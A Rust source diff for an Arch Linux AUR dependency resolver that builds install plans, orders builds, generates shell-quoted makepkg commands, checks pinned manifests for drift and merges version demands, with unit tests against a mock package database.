+        // Requested packages are the only ones without a parent. Dependencies
+        // on virtual names are recorded under those names, not the package
+        // that ended up providing them.
+        let dependencies = res
+            .to_build
+            .iter()
+            .filter(|b| {
+                res.parents.keys().any(|dep| {
+                    b.name == *dep
+                        || b.members.contains(dep)
+                        || res.provided.get(dep).is_some_and(|p| *p == b.name)
+                })
+            })
+            .map(|b| b.name.clone())
+            .collect();
+
+        let tiers = build_order(res.to_build.into_iter().collect())?;
+
+        let steps = officials
+            .is_empty()
+            .not()
+            .then_some(Step::Install {
+                packages: officials,
+            })
+            .into_iter()
+            .chain(tiers.into_iter().map(|mut packages| {
+                packages.sort();
+                Step::Build { packages }
+            }))
+            .collect();
+
+        let plan = InstallPlan {
+            steps,
+            clone_paths: res.clone_paths,
+            dependencies,
+        };
+
+        Ok(plan)
+    }
+}
+
+/// Shell commands to build each tier of AUR packages in an [`InstallPlan`].
+///
+/// Each package is built and installed, and those needed only by others are
+/// installed with `--asdeps`. The commands within a tier don't depend on each
+/// other, so a driver may run them in parallel. Packages with no known clone
+/// path are assumed to live directly within the given clone directory.
+pub fn build_commands(plan: &InstallPlan, clone_dir: &Path) -> Vec<Vec<String>> {
+    plan.steps
+        .iter()
+        .filter_map(|step| match step {
+            Step::Install { .. } => None,
+            Step::Build { packages } => Some(packages),
+        })
+        .map(|packages| {
+            packages
+                .iter()
+                .map(|p| {
+                    let path = plan
+                        .clone_paths
+                        .get(p)
+                        .cloned()
+                        .unwrap_or_else(|| clone_dir.join(p));
+                    let flags =
+                        if plan.dependencies.contains(p) { "-sci --asdeps" } else { "-sci" };
+
+                    format!("cd {} && makepkg {}", shell_quote(&path), flags)
+                })
+                .collect()
+        })
+        .collect()
+}
+
+/// Quote a path for a POSIX shell, such that it's passed through as one word.
+fn shell_quote(path: &Path) -> String {
+    format!("'{}'", path.display().to_string().replace('\'', r"'\''"))
+}
+
+/// Everything that installing some packages would involve, for showing to a
+/// user before anything is actually done.
+#[derive(Debug, PartialEq, Eq, Serialize)]
+pub struct Plan {
+    /// Packages to be installed from the official repositories, sorted.
+    pub to_install: Vec<String>,
+    /// AUR packages to be built, in the tiers of their [`build_order`]. Each
+    /// tier is sorted.
+    pub to_build: Vec<Vec<String>>,
+    /// Packages already installed, sorted.
+    pub satisfied: Vec<String>,
+}
+
+impl Plan {
+    /// Lay out the contents of a [`Resolution`].
+    pub fn new<E>(res: &Resolution) -> Result<Plan, Error<E>> {
+        let to_install = res
+            .to_install
+            .iter()
+            .map(|o| o.name.clone())
+            .sorted()
+            .collect();
+        let to_build = build_order(res.to_build.iter().cloned().collect())?
+            .into_iter()
+            .map(|tier| tier.into_iter().sorted().collect())
+            .collect();
+        let satisfied = res.satisfied.iter().cloned().sorted().collect();
+
+        let plan = Plan {
+            to_install,
+            to_build,
+            satisfied,
+        };
+
+        Ok(plan)
+    }
+}
+
+/// Resolve the given packages into a [`Plan`], without changing anything.
+///
+/// Existing clones are used as-is, even if [`ResolveOpts::refresh`] was set.
+/// Missing ones must still be cloned, in order to read their dependencies.
+pub fn plan<M, F, E>(opts: &ResolveOpts<M, F>, pkgs: &HashSet<&str>) -> Result<Plan, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    plan_with_db(opts, pkgs)
+}
+
+/// [`plan`] over any [`ResolveDb`].
+fn plan_with_db<M, F, E>(opts: &ResolveOpts<M, F>, pkgs: &HashSet<&str>) -> Result<Plan, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let opts = ResolveOpts {
+        pool: opts.pool.clone(),
+        refresh: false,
+        ..*opts
+    };
+    let res = resolve_with_db(&opts, pkgs)?;
+
+    Plan::new(&res)
+}
+
+/// Resolve the given packages and render the resulting [`InstallPlan`] as
+/// JSON.
+///
+/// Useful for frontends written in other languages that only want to know what
+/// to do, and in what order.
+pub fn plan_json<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<String, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    plan_json_with_db(opts, pkgs)
+}
+
+/// [`plan_json`] over any [`ResolveDb`].
+fn plan_json_with_db<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<String, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let res = resolve_with_db(opts, pkgs)?;
+    let plan = InstallPlan::new(res)?;
+
+    serde_json::to_string(&plan).map_err(Error::Json)
+}
+
+/// The architecture of the running machine, as `pacman` and `.SRCINFO` files
+/// name it.
+pub fn host_arch() -> &'static str {
+    match std::env::consts::ARCH {
+        "x86" => "i686",
+        "arm" => "armv7h",
+        other => other,
+    }
+}
+
+/// A cheap fingerprint of the state of a clone directory, which changes whenever
+/// a clone is added, removed, or has its `.SRCINFO` altered.
+///
+/// Anything caching the results of resolution can key on this, to know when
+/// its entries have been invalidated by changes to the clones themselves.
+pub fn clone_dir_generation(clone_dir: &Path) -> u64 {
+    let mtime = |path: &Path| path.metadata().and_then(|m| m.modified()).ok();
+
+    let (count, newest) = std::fs::read_dir(clone_dir)
+        .into_iter()
+        .flatten()
+        .filter_map(|entry| entry.ok())
+        .map(|entry| entry.path())
+        .fold((0u64, None), |(count, newest), path| {
+            let latest = mtime(&path).max(mtime(&path.join(".SRCINFO")));
+            (count + 1, newest.max(latest))
+        });
+
+    let mut hasher = DefaultHasher::new();
+    count.hash(&mut hasher);
+    newest.hash(&mut hasher);
+    hasher.finish()
+}
+
+/// The installed packages that would no longer be needed by anything, were the
+/// given plan carried out.
+///
+/// These are dependencies of the installed copies of packages that the plan
+/// replaces, which nothing else installed requires, and which the plan itself
+/// doesn't need either.
+pub fn would_orphan<M, E>(pool: &Pool<M>, plan: &Resolution) -> Result<Vec<String>, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+{
+    would_orphan_with_db(pool, plan)
+}
+
+/// [`would_orphan`] over any [`ResolveDb`].
+fn would_orphan_with_db<M, E>(pool: &Pool<M>, plan: &Resolution) -> Result<Vec<String>, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+{
+    let db = pool.get().map_err(Error::R2D2)?;
+    let needed = plan.closure();
+
+    let replaced: HashMap<String, Satisfier> = plan
+        .to_install
+        .iter()
+        .map(|o| o.name.as_str())
+        .chain(plan.to_build.iter().map(|b| b.name.as_str()))
+        .filter_map(|p| db.local_satisfier(p).filter(|sat| sat.name == p))
+        .map(|sat| (sat.name.clone(), sat))
+        .collect();
+
+    let orphans = replaced
+        .values()
+        .flat_map(|sat| sat.depends.iter())
+        .map(|d| strip_version(d.as_str()))
+        .unique()
+        .filter(|d| needed.contains(d).not() && replaced.contains_key(d).not())
+        .filter(|d| db.local_satisfier(d).is_some_and(|sat| &sat.name == d))
+        .filter(|d| {
+            db.local_required_by(d)
+                .iter()
+                .all(|r| replaced.contains_key(r))
+        })
+        .sorted()
+        .collect();
+
+    Ok(orphans)
+}
+
+/// The names of every package, official or AUR, that the given packages need
+/// but which aren't yet installed.
+///
+/// Useful for scripts that only want to know what's missing. Anything in `opts`
+/// that only gathers extra information is switched off, namely
+/// [`ResolveOpts::collect_faur`], [`ResolveOpts::min_votes`],
+/// [`ResolveOpts::report_path`], [`ResolveOpts::on_progress`] and
+/// [`ResolveOpts::pkgbuild_audit`].
+pub fn missing_only<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<HashSet<String>, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    missing_only_with_db(opts, pkgs)
+}
+
+/// [`missing_only`] over any [`ResolveDb`].
+fn missing_only_with_db<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<HashSet<String>, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let opts = ResolveOpts {
+        pool: opts.pool.clone(),
+        collect_faur: false,
+        min_votes: None,
+        report_path: None,
+        on_progress: None,
+        pkgbuild_audit: None,
+        ..*opts
+    };
+    let res = resolve_with_db(&opts, pkgs)?;
+    let officials = res.to_install.into_iter().map(|o| o.name);
+    let builds = res.to_build.into_iter().map(|b| b.name);
+
+    Ok(officials.chain(builds).collect())
+}
+
+/// An exact, previously determined set of AUR packages to build.
+///
+/// Like a lockfile, this pins each package to a specific commit of its AUR
+/// repository.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct DependencyManifest {
+    /// The pinned packages.
+    pub packages: Vec<ManifestEntry>,
+}
+
+/// A single pinned package within a [`DependencyManifest`].
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ManifestEntry {
+    /// The `pkgbase` of the package.
+    pub name: String,
+    /// The expected git commit of its local clone.
+    pub commit: String,
+    /// The expected dependencies of the package, both official and AUR.
+    pub deps: HashSet<String>,
+}
+
+/// How a local clone differs from what a [`DependencyManifest`] expected.
+#[derive(Debug, PartialEq, Eq)]
+pub enum Drift {
+    /// The clone is at a different commit.
+    Commit {
+        /// The commit named by the manifest.
+        expected: String,
+        /// The commit actually checked out.
+        actual: String,
+    },
+    /// The `.SRCINFO` declares different dependencies.
+    Deps {
+        /// The dependencies named by the manifest.
+        expected: HashSet<String>,
+        /// The dependencies actually declared.
+        actual: HashSet<String>,
+    },
+}
+
+/// Produce a [`Resolution`] directly from a [`DependencyManifest`], without
+/// discovering dependencies afresh.
+///
+/// Each pinned package's local clone is verified against the manifest, and
+/// any difference in commit or dependencies is an error. Only dependencies of
+/// the given kinds are compared, as with [`ResolveOpts::dep_kinds`].
+pub fn resolve_from_manifest<E>(
+    clone_d: &Path,
+    dep_kinds: DepKinds,
+    manifest: &DependencyManifest,
+) -> Result<Resolution, Error<E>> {
+    let to_build = manifest
+        .packages
+        .iter()
+        .map(|entry| {
+            let path = clone_d.join(&entry.name);
+
+            if path.is_dir().not() {
+                return Err(Error::DoesntExist(entry.name.clone()));
+            }
+
+            let actual = crate::git::hash(&path).map_err(Error::Git)?;
+            if actual != entry.commit {
+                let drift = Drift::Commit {
+                    expected: entry.commit.clone(),
+                    actual,
+                };
+                return Err(Error::ManifestDrift(entry.name.clone(), drift));
+            }
+
+            let full = path.join(".SRCINFO");
+            let info = Srcinfo::parse_file(&full).map_err(|e| Error::Srcinfo(full, e))?;
+            let deps: HashSet<_> = srcinfo_deps(&info, None, dep_kinds, false)
+                .into_iter()
+                .map(strip_version)
+                .collect();
+            if deps != entry.deps {
+                let drift = Drift::Deps {
+                    expected: entry.deps.clone(),
+                    actual: deps,
+                };
+                return Err(Error::ManifestDrift(entry.name.clone(), drift));
+            }
+
+            let provides = srcinfo_provides(&info);
+            let members = info
+                .pkgs
+                .iter()
+                .map(|p| p.pkgname.clone())
+                .sorted()
+                .collect();
+
+            Ok(Buildable {
+                name: entry.name.clone(),
+                deps,
+                provides,
+                members,
+            })
+        })
+        .collect::<Validated<HashSet<_>, Error<E>>>()
+        .ok()
+        .map_err(|es| Error::Resolutions(Box::new(es)))?;
+
+    let clone_paths = to_build
+        .iter()
+        .map(|b| (b.name.clone(), clone_d.join(&b.name)))
+        .collect();
+
+    let res = Resolution {
+        to_build,
+        clone_paths,
+        ..Resolution::default()
+    };
+
+    Ok(res)
+}
+
+/// The shortest cycle through the given node, as a breadth-first search back
+/// to it. The node appears at both ends, as in `foo -> bar -> foo`.
+fn shortest_cycle<N, E>(ix: NodeIndex, graph: &Graph<N, E>) -> Vec<NodeIndex> {
+    let mut parents: HashMap<NodeIndex, NodeIndex> = HashMap::new();
+    let mut queue = VecDeque::from([ix]);
+
+    while let Some(node) = queue.pop_front() {
+        for next in graph.neighbors(node) {
+            if next == ix {
+                let mut path = vec![ix, node];
+                let mut curr = node;
+
+                while let Some(&prev) = parents.get(&curr) {
+                    path.push(prev);
+                    curr = prev;
+                }
+
+                path.reverse();
+                return path;
+            } else if parents.contains_key(&next).not() {
+                parents.insert(next, node);
+                queue.push_back(next);
+            }
+        }
+    }
+
+    Vec::new()
+}
+
+/// Form a proper dependency graph.
+fn dep_graph(to_build: &[Buildable]) -> Graph<&Buildable, ()> {
+    let mut graph = Graph::new();
+    let mut map: HashMap<&str, NodeIndex> = HashMap::new();
+
+    for build in to_build {
+        let ix = graph.add_node(build);
+        map.insert(&build.name, ix);
+    }
+
+    for ix in map.values() {
+        if let Some(build) = graph.node_weight(*ix) {
+            for dep in build.deps.iter() {
+                if let Some(oix) = map.get(dep.as_str()) {
+                    graph.add_edge(*ix, *oix, ());
+                }
+            }
+        }
+    }
+
+    graph
+}
+
+/// Strip version demands from a dependency string, if any.
+fn strip_version<S>(stri: S) -> String
+where
+    S: AsRef<str> + Into<String>,
+{
+    stri.as_ref()
+        .split_once(['=', '<', '>'])
+        .map(|(good, _)| good.to_string())
+        .unwrap_or_else(|| stri.into())
+}
+
+/// Does the `.SRCINFO` of an AUR package fall short of the version demanded of
+/// it?
+///
+/// The `pkgver` of VCS packages is only a placeholder until `makepkg` runs
+/// their `pkgver()` function, so their demands can't be verified and are
+/// skipped. Such packages will be built regardless.
+fn unmet_demand(info: &Srcinfo, dep: &str) -> Option<Diagnostic> {
+    if is_placeholder_version(info) {
+        debug!("Can't verify {} against a placeholder version.", dep);
+        return None;
+    }
+
+    let version = info.version();
+
+    meets_demand(&version, dep)
+        .not()
+        .then(|| Diagnostic::UnmetDemand {
+            demand: dep.to_string(),
+            version,
+        })
+}
+
+/// Is the `pkgver` of this `.SRCINFO` unreliable, either because it's obviously
+/// a placeholder, or because it belongs to a VCS package?
+fn is_placeholder_version(info: &Srcinfo) -> bool {
+    let pkgver = info.base.pkgver.as_str();
+
+    pkgver.chars().all(|c| c == '0' || c == '.') || is_vcs(info)
+}
+
+/// Is this a VCS package, like `foo-git`, which builds whatever its upstream
+/// repository currently holds? Such packages are detected by their name, or by
+/// fetching any of their sources with a version control tool.
+///
+/// The `pkgver` of these only changes once `makepkg` has run their `pkgver()`,
+/// so an installed one may be out of date even if its `.SRCINFO` says not.
+pub fn is_vcs(info: &Srcinfo) -> bool {
+    const SUFFIXES: &[&str] = &["-git", "-svn", "-hg", "-bzr", "-cvs", "-darcs", "-fossil"];
+    const TOOLS: &[&str] = &["git", "svn", "hg", "bzr", "fossil"];
+
+    let by_source = || {
+        info.base
+            .source
+            .iter()
+            .flat_map(|av| av.vec.iter())
+            // Sources may be renamed, as in `name::git+https://...`.
+            .map(|s| s.split_once("::").map_or(s.as_str(), |(_, url)| url))
+            .filter_map(|url| url.split_once("://").map(|(scheme, _)| scheme))
+            .any(|scheme| scheme.split('+').next().is_some_and(|t| TOOLS.contains(&t)))
+    };
+
+    SUFFIXES.iter().any(|s| info.base.pkgbase.ends_with(s)) || by_source()
+}
+
+/// The comparison operator and version of a dependency's version demand, like
+/// `(">=", "1.0")` for `foo>=1.0`. Both are empty if there is no demand.
+fn split_demand(dep: &str) -> (&str, &str) {
+    let demand = dep.find(['<', '>', '=']).map_or("", |ix| &dep[ix..]);
+    let want = demand.trim_start_matches(['<', '>', '=']);
+
+    (&demand[..demand.len() - want.len()], want)
+}
+
+/// Collapse all the demands on each dependency into a single one, so that the
+/// outcome never depends on which demand happens to be resolved first.
+///
+/// A versioned demand beats a bare one. Of several versioned demands, the
+/// strictest is kept: an exact version, or else the highest lower bound, or
+/// else the lowest upper bound.
+fn merge_demands<I>(demands: I) -> Vec<String>
+where
+    I: IntoIterator<Item = String>,
+{
+    demands
+        .into_iter()
+        .into_group_map_by(|d| strip_version(d.as_str()))
+        .into_values()
+        .filter_map(|ds| ds.into_iter().max_by(|a, b| strictness(a, b)))
+        .collect()
+}
+
+/// How two demands on the same dependency compare in strictness.
+fn strictness(a: &str, b: &str) -> Ordering {
+    let rank = |op: &str| match op {
+        "=" => 3,
+        ">=" | ">" => 2,
+        "<=" | "<" => 1,
+        _ => 0,
+    };
+    let (op_a, want_a) = split_demand(a);
+    let (op_b, want_b) = split_demand(b);
+    let by_version = match rank(op_a) {
+        1 => alpm::vercmp(want_b, want_a),
+        _ => alpm::vercmp(want_a, want_b),
+    };
+
+    rank(op_a)
+        .cmp(&rank(op_b))
+        .then(by_version)
+        // `>` is stricter than `>=`, and `<` than `<=`.
+        .then(op_b.len().cmp(&op_a.len()))
+        .then(a.cmp(b))
+}
+
+/// Does the given version meet the version demand of a dependency, like
+/// `foo>=1.0`? Dependencies without a demand are always met.
+fn meets_demand(version: &str, dep: &str) -> bool {
+    let (op, want) = split_demand(dep);
+
+    if op.is_empty() {
+        return true;
+    }
+
+    let ord = alpm::vercmp(version, want);
+
+    match op {
+        ">=" => ord.is_ge(),
+        ">" => ord.is_gt(),
+        "=" => ord.is_eq(),
+        "<=" => ord.is_le(),
+        "<" => ord.is_lt(),
+        _ => false,
+    }
+}
+
+/// Is the first version strictly older than the second, as ALPM judges it?
+fn is_older(a: &str, b: &str) -> bool {
+    alpm::vercmp(a, b).is_lt()
+}
+
+/// Is the given dependency a shared library soname, like `libfoo.so=1-64`?
+fn is_soname(dep: &str) -> bool {
+    dep.split_once(['=', '<', '>'])
+        .map(|(name, _)| name)
+        .unwrap_or(dep)
+        .ends_with(".so")
+}
+
+/// Interdependency relationships just within a given package.
+pub struct Interdeps<'a>(HashMap<&'a str, Vec<&'a str>>);
+
+impl<'a> Interdeps<'a> {
+    /// Construct a mapping of interdependency relationships given a specific [`Srcinfo`].
+    pub fn from_srcinfo(srcinfo: &'a Srcinfo) -> Self {
+        let reals: HashSet<_> = srcinfo.pkgs.iter().map(|p| p.pkgname.as_str()).collect();
+
+        srcinfo
+            .pkgs
+            .iter()
+            .map(|p| {
+                let ds = p
+                    .depends
+                    .iter()
+                    .flat_map(|av| av.vec.as_slice())
+                    .filter(|d| reals.contains(d.as_str()))
+                    .map(|s| s.as_str())
+                    .collect();
+                (p.pkgname.as_str(), ds)
+            })
+            .collect::<HashMap<_, _>>()
+            .apply(Interdeps)
+    }
+
+    /// Starting from some given package name, all the packages that belong to
+    /// its transitive chain of dependencies.
+    pub fn transitive(&'a self, head: &'a str) -> Option<NESet<&'a str>> {
+        let mut chain = self.transitive_work(head, HashSet::new());
+
+        if chain.is_empty() {
+            None
+        } else {
+            chain.insert(head);
+            NESet::from_set(chain)
+        }
+    }
+
+    fn transitive_work(&'a self, dep: &'a str, curr: HashSet<&'a str>) -> HashSet<&'a str> {
+        match self.0.get(dep) {
+            None => curr,
+            Some(deps) => deps.iter().fold(curr, |mut acc, d| {
+                // Prevents infinite recursion, even though we don't expect
+                // there to be dependency cycles in any place where this would
+                // be used.
+                if acc.contains(d) {
+                    acc
+                } else {
+                    acc.insert(d);
+                    self.transitive_work(d, acc)
+                }
+            }),
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::missing_only_with_db as missing_only;
+    use super::plan_json_with_db as plan_json;
+    use super::plan_with_db as plan;
+    use super::resolve_incremental_with_db as resolve_incremental;
+    use super::resolve_multiarch_with_db as resolve_multiarch;
+    use super::resolve_with_db as resolve;
+    use super::would_orphan_with_db as would_orphan;
+    use super::*;
+    use nonempty_collections::nes;
+    use std::cmp::Ordering;
+
+    /// An in-memory stand-in for the ALPM databases.
+    #[derive(Default)]
+    struct MockDb {
+        local: HashMap<String, Satisfier>,
+        sync: HashMap<String, Satisfier>,
+        /// The names of the threads that performed sync lookups.
+        threads: Mutex<Vec<Option<String>>>,
+        /// The raw queries made against the sync databases.
+        queries: Mutex<Vec<String>>,
+        /// Every official provider of certain virtual names.
+        providers: HashMap<String, Vec<Satisfier>>,
+        /// Installed packages that weren't installed from a repository.
+        built: HashSet<String>,
+    }
+
+    impl MockDb {
+        fn installed(self, name: &str) -> Self {
+            self.installed_at(name, "1.0-1")
+        }
+
+        fn installed_at(mut self, name: &str, version: &str) -> Self {
+            let mut sat = satisfier(name, &[]);
+            sat.version = version.to_string();
+            self.local.insert(name.to_string(), sat);
+            self
+        }
+
+        fn official(self, name: &str, deps: &[&str]) -> Self {
+            self.official_in("extra", name, deps)
+        }
+
+        /// Installed, but built locally, as AUR packages are.
+        fn foreign(mut self, name: &str) -> Self {
+            self.built.insert(name.to_string());
+            self.installed(name)
+        }
+
+        fn official_in(mut self, repo: &str, name: &str, deps: &[&str]) -> Self {
+            let mut sat = satisfier(name, deps);
+            sat.repo = repo.to_string();
+            self.sync.insert(name.to_string(), sat);
+            self
+        }
+    }
+
+    impl ResolveDb for Arc<MockDb> {
+        fn local_satisfier(&self, pkg: &str) -> Option<Satisfier> {
+            let name = pkg.split_once(['=', '<', '>']).map_or(pkg, |(n, _)| n);
+
+            self.local
+                .get(name)
+                .filter(|sat| meets_demand(&sat.version, pkg))
+                .cloned()
+        }
+
+        fn sync_satisfier(&self, pkg: &str) -> Option<Satisfier> {
+            let name = std::thread::current().name().map(|n| n.to_string());
+            self.threads.lock().unwrap().push(name);
+            self.queries.lock().unwrap().push(pkg.to_string());
+            let name = pkg.split_once(['=', '<', '>']).map_or(pkg, |(n, _)| n);
+            self.sync.get(name).cloned()
+        }
+
+        fn sync_providers(&self, pkg: &str) -> Vec<Satisfier> {
+            match self.providers.get(pkg) {
+                Some(ps) => ps.clone(),
+                None => self.sync.get(pkg).cloned().into_iter().collect(),
+            }
+        }
+
+        fn locally_built(&self, pkg: &str) -> bool {
+            self.built.contains(pkg)
+        }
+
+        fn local_required_by(&self, pkg: &str) -> Vec<String> {
+            self.local
+                .values()
+                .filter(|sat| sat.depends.iter().any(|d| d == pkg))
+                .map(|sat| sat.name.clone())
+                .collect()
+        }
+    }
+
+    struct MockManager(Arc<MockDb>);
+
+    impl ManageConnection for MockManager {
+        type Connection = Arc<MockDb>;
+        type Error = std::io::Error;
+
+        fn connect(&self) -> Result<Self::Connection, Self::Error> {
+            Ok(self.0.clone())
+        }
+
+        fn is_valid(&self, _: &mut Self::Connection) -> Result<(), Self::Error> {
+            Ok(())
+        }
+
+        fn has_broken(&self, _: &mut Self::Connection) -> bool {
+            false
+        }
+    }
+
+    fn satisfier(name: &str, deps: &[&str]) -> Satisfier {
+        Satisfier {
+            name: name.to_string(),
+            repo: "local".to_string(),
+            version: "1.0-1".to_string(),
+            provides: Vec::new(),
+            depends: deps.iter().map(|d| d.to_string()).collect(),
+            conflicts: Vec::new(),
+        }
+    }
+
+    fn mock_pool(db: MockDb) -> (Pool<MockManager>, Arc<MockDb>) {
+        let arc = Arc::new(db);
+        let pool = Pool::builder()
+            .max_size(4)
+            .build(MockManager(arc.clone()))
+            .unwrap();
+
+        (pool, arc)
+    }
+
+    /// A directory of fake AUR clones, removed again once the test is done.
+    struct CloneRoot(PathBuf);
+
+    impl std::ops::Deref for CloneRoot {
+        type Target = Path;
+
+        fn deref(&self) -> &Path {
+            &self.0
+        }
+    }
+
+    impl AsRef<Path> for CloneRoot {
+        fn as_ref(&self) -> &Path {
+            &self.0
+        }
+    }
+
+    impl Drop for CloneRoot {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+
+    /// A fresh, empty directory to hold fake AUR clones, unique to each call.
+    fn clone_root(name: &str) -> CloneRoot {
+        use std::sync::atomic::AtomicUsize;
+        use std::sync::atomic::Ordering;
+
+        static NEXT: AtomicUsize = AtomicUsize::new(0);
+        let n = NEXT.fetch_add(1, Ordering::Relaxed);
+        let dir = format!("aura-{}-{}-{}", name, std::process::id(), n);
+        let path = std::env::temp_dir().join(dir);
+        let _ = std::fs::remove_dir_all(&path);
+        std::fs::create_dir_all(&path).unwrap();
+        CloneRoot(path)
+    }
+
+    /// Write a minimal `.SRCINFO` into a fake clone directory.
+    fn fake_clone(root: &Path, dir: &str, pkgbase: &str, depends: &[&str]) {
+        let lines: Vec<_> = depends.iter().map(|d| format!("depends = {d}")).collect();
+        fake_clone_with(root, dir, pkgbase, &lines);
+    }
+
+    /// Like [`fake_clone`], but with arbitrary extra `pkgbase` fields.
+    fn fake_clone_with<S>(root: &Path, dir: &str, pkgbase: &str, fields: &[S])
+    where
+        S: AsRef<str>,
+    {
+        let path = root.join(dir);
+        let extra: String = fields
+            .iter()
+            .map(|f| format!("\t{}\n", f.as_ref()))
+            .collect();
+        let info = format!(
+            "pkgbase = {pkgbase}\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = any\n{extra}\npkgname = {pkgbase}\n"
+        );
+        std::fs::create_dir_all(&path).unwrap();
+        std::fs::write(path.join(".SRCINFO"), info).unwrap();
+    }
+
+    /// Commit everything in a fake clone, yielding the new commit hash.
+    fn git_commit(dir: &Path) -> String {
+        let git = |args: &[&str]| {
+            let status = std::process::Command::new("git")
+                .args(["-c", "user.name=aura", "-c", "user.email=aura@localhost"])
+                .args(args)
+                .current_dir(dir)
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::null())
+                .status()
+                .unwrap();
+            assert!(status.success());
+        };
+
+        git(&["init", "--quiet"]);
+        git(&["add", "--all"]);
+        git(&["commit", "--quiet", "--message", "fixture"]);
+        crate::git::hash(dir).unwrap()
+    }
+
+    /// A minimal package as the Faur would report it.
+    fn faur_pkg(name: &str, base: &str, votes: u64) -> crate::faur::Package {
+        serde_json::from_value(serde_json::json!({
+            "FirstSubmitted": 0,
+            "ID": 0,
+            "LastModified": 0,
+            "Name": name,
+            "NumVotes": votes,
+            "PackageBase": base,
+            "PackageBaseID": 0,
+            "Popularity": votes as f64 / 100.0,
+            "URLPath": "",
+            "Version": "1.0-1",
+        }))
+        .unwrap()
+    }
+
+    fn no_faur(_: &str) -> Result<Vec<crate::faur::Package>, ()> {
+        Ok(Vec::new())
+    }
+
+    /// The package names queried by a Faur URL.
+    fn faur_names(url: &str) -> Vec<&str> {
+        url.split_once("names=")
+            .and_then(|(_, rest)| rest.split('&').next())
+            .map(|names| names.split(',').collect())
+            .unwrap_or_default()
+    }
+
+    #[test]
+    fn mismatched_pkgbase() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("mismatch");
+        fake_clone(&root, "bar", "foo", &[]);
+        let pkgs = HashSet::from(["bar"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = vec![Diagnostic::BaseMismatch {
+            dir: "bar".to_string(),
+            pkgbase: "foo".to_string(),
+        }];
+        assert_eq!(expt, res.diagnostics);
+        assert!(base_mismatch(&root.join("foo"), "foo").is_none());
+    }
+
+    #[test]
+    fn json_plan() {
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("plan");
+        fake_clone(&root, "x", "x", &["y", "a"]);
+        fake_clone(&root, "y", "y", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let json = plan_json(&opts, &pkgs).unwrap();
+        let expt = r#"{"steps":[{"action":"install","packages":["a"]},{"action":"build","packages":["y"]},{"action":"build","packages":["x"]}]}"#;
+        assert_eq!(expt, json);
+    }
+
+    #[test]
+    fn json_resolution() {
+        let mut res = Resolution::default();
+        res.to_install.insert(Official::new("a"));
+        res.to_build.insert(Buildable {
+            name: "x".to_string(),
+            deps: HashSet::from(["a".to_string()]),
+            provides: HashSet::new(),
+            members: Vec::new(),
+        });
+        res.satisfied.insert("base-devel".to_string());
+        res.diagnostics.push(Diagnostic::UnmetDemand {
+            demand: "x>=2".to_string(),
+            version: "1.0-1".to_string(),
+        });
+        res.popularity.insert("x".to_string(), (5, 0.5));
+        res.clone_paths
+            .insert("x".to_string(), PathBuf::from("/tmp/aura/x"));
+        res.in_flight.insert("y".to_string());
+
+        let expt = serde_json::json!({
+            "to_install": [{ "name": "a", "provides": [] }],
+            "to_build": [{ "name": "x", "deps": ["a"], "provides": [], "members": [] }],
+            "satisfied": ["base-devel"],
+            "diagnostics": [{ "kind": "unmet_demand", "demand": "x>=2", "version": "1.0-1" }],
+            "unexplored": [],
+            "popularity": { "x": [5, 0.5] },
+            "low_popularity": [],
+            "clone_paths": { "x": "/tmp/aura/x" },
+            "downgrades": {},
+            "roots": [],
+            "satisfied_by": {},
+            "unavailable_optdeps": [],
+            "repo_breakdown": {},
+            "provider_conflicts": {},
+            "case_folded": {},
+            "pgp_keys": {},
+            "vcs": [],
+            "faur_packages": {},
+            "dropped_duplicates": [],
+            "parents": {},
+            "duration": { "secs": 0, "nanos": 0 },
+            "migrated": [],
+        });
+
+        assert_eq!(expt, serde_json::to_value(&res).unwrap());
+    }
+
+    #[test]
+    fn reason_chains() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b"])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("reasons");
+        fake_clone(&root, "x", "x", &["y", "a"]);
+        fake_clone(&root, "y", "y", &["z"]);
+        fake_clone(&root, "z", "z", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert_eq!(vec!["x", "y", "z"], res.reason_chain("z"));
+        assert_eq!(vec!["x", "a", "b"], res.reason_chain("b"));
+        assert_eq!(vec!["x"], res.reason_chain("x"));
+        assert!(res.parents.contains_key("x").not());
+    }
